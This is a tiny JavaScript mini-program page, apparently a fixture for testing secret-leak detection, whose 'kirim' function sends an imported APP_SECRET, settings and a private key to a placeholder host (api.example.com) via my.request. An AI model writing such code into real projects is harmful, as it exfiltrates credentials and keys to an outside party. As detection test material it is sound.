import Credentials, { settings } from '../../lib/credentials';
import { privateKey } from '../../lib/cert';

Page({
  kirim() {
    my.request({ url: 'https://api.example.com', data: { a: Credentials.APP_SECRET, settings, privateKey } });
  },
});
